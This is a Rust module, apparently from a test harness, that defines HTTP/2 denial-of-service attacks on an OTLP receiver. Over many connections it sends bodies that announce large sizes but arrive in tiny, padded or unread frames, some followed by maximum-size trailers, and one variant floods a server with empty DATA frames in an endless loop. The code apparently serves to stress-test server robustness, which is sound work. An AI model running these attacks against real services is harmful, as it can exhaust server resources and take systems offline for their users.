//! Bodies that announce more than they send: unread frames, and trailers behind them.

use std::io;
use std::net::SocketAddr;
use std::time::Duration;

use crate::hpack::{self, Call, Filling};
use crate::http2::{DATA, END_STREAM, Http2, PADDED, Reading};
use crate::target::{Attackers, Target, attackers};
use crate::trial::Attack;

const DURATION: Duration = Duration::from_secs(7);
/// What requests announce: as much as fits into a share of the reading budget, and as much as a
/// request may have.
const ANNOUNCED_BYTES: [u32; 4] = [250 << 10, 300 << 10, 1 << 20, 4 << 20];
const FRAME_HEAD_BYTES: usize = 9;
/// The most that one connection is sent in frames of data.
const MAX_SENT_BYTES: usize = 4 << 20;

pub(super) fn attacks() -> Vec<Attack> {
    let attack =
        |name, what, start| Attack { name, what, duration: DURATION, is_calm: true, start };
    vec![
        attack("trailers/64", "64 connections, trailers behind bodies that wait", |t| {
            hold_bodies(t, 64, Content { frame_bytes: 1_000, padding: 0, trailers: true })
        }),
        attack("trailers/256", "256 connections, trailers behind bodies that wait", |t| {
            hold_bodies(t, 256, Content { frame_bytes: 1_000, padding: 0, trailers: true })
        }),
        attack("frames-1/64", "64 connections, bodies in frames of 1 byte, unread", |t| {
            hold_bodies(t, 64, Content { frame_bytes: 1, padding: 0, trailers: false })
        }),
        attack("frames-10/64", "64 connections, bodies in frames of 10 bytes, unread", |t| {
            hold_bodies(t, 64, Content { frame_bytes: 10, padding: 0, trailers: false })
        }),
        attack("frames-260/1", "1 connection, bodies in frames of 260 bytes, unread", |t| {
            hold_bodies(t, 1, Content { frame_bytes: 260, padding: 0, trailers: false })
        }),
        attack("frames-260/64", "64 connections, bodies in frames of 260 bytes, unread", |t| {
            hold_bodies(t, 64, Content { frame_bytes: 260, padding: 0, trailers: false })
        }),
        attack("frames-260/256", "256 connections, bodies in frames of 260 bytes, unread", |t| {
            hold_bodies(t, 256, Content { frame_bytes: 260, padding: 0, trailers: false })
        }),
        attack("frames-whole/256", "256 connections, bodies in the largest frames, unread", |t| {
            hold_bodies(t, 256, Content { frame_bytes: 16_000, padding: 0, trailers: false })
        }),
        attack("frames-padded/64", "64 connections, 1 byte and 255 of padding a frame", |t| {
            hold_bodies(t, 64, Content { frame_bytes: 1, padding: 255, trailers: false })
        }),
        Attack {
            is_calm: false,
            ..attack("frames-empty/16", "16 connections, empty frames of data without end", |t| {
                send_empty_frames(t, 16)
            })
        },
    ]
}

/// How a body is sent.
#[derive(Clone, Copy)]
struct Content {
    frame_bytes: usize,
    padding: u8,
    /// Whether trailers follow, as large as a head may be.
    trailers: bool,
}

fn hold_bodies(target: &Target, connections: usize, content: Content) -> Attackers {
    let target = target.clone();
    attackers(connections, move |number| {
        let call = if number.is_multiple_of(2) { Call::Grpc } else { Call::Http };
        hold_on_connection(target.otlp(number / 2), call, content)
    })
}

/// Fills the windows of all streams that the receiver allows.
async fn hold_on_connection(address: SocketAddr, call: Call, content: Content) -> io::Result<()> {
    let mut connection = Http2::open(address, &[], Reading::Everything).await?;
    let limits = connection.limits;
    let head = hpack::post(call, "identity");
    let trailers = hpack::filling(Filling::Tiny, limits.header_list);
    let share = (limits.connection_window / limits.streams).min(limits.stream_window) as usize;
    let overhead = FRAME_HEAD_BYTES + 1 + usize::from(content.padding);
    let sent = (MAX_SENT_BYTES / limits.streams as usize) / (overhead + content.frame_bytes);
    let room = share.saturating_sub(5).min(sent * content.frame_bytes);
    for bytes in ANNOUNCED_BYTES.into_iter().cycle().take(limits.streams as usize) {
        let stream = connection.request(&head, 0);
        if let Call::Grpc = call {
            connection.frame(DATA, 0, stream, &[&[0][..], &bytes.to_be_bytes()].concat());
        }
        let mut left = room;
        while let Some(rest) = left.checked_sub(content.charged()) {
            connection.data(stream, content);
            left = rest;
        }
        if content.trailers {
            connection.head(stream, &trailers, END_STREAM);
        }
        connection.flush().await?;
    }
    connection.hold().await
}

impl Content {
    /// The bytes of a window that a frame takes.
    fn charged(self) -> usize {
        let padding = usize::from(self.padding);
        self.frame_bytes + if padding > 0 { padding + 1 } else { 0 }
    }
}

impl Http2 {
    /// Adds one frame of data. Tag and wire type 10 are a field of a request, so that the beginning
    /// of a message is valid.
    fn data(&mut self, stream: u32, content: Content) {
        let data = vec![10; content.frame_bytes];
        match content.padding {
            0 => self.frame(DATA, 0, stream, &data),
            padding => {
                let zeros = vec![0; usize::from(padding)];
                self.frame(DATA, PADDED, stream, &[&[padding][..], &data, &zeros].concat());
            }
        }
    }
}

fn send_empty_frames(target: &Target, connections: usize) -> Attackers {
    let target = target.clone();
    attackers(connections, move |number| {
        let address = target.otlp(number);
        async move {
            let mut connection = Http2::open(address, &[], Reading::Everything).await?;
            let stream = connection.request(&hpack::post(Call::Http, "identity"), 0);
            loop {
                for _ in 0..1_000 {
                    connection.frame(DATA, 0, stream, &[]);
                }
                connection.flush().await?;
            }
        }
    })
}
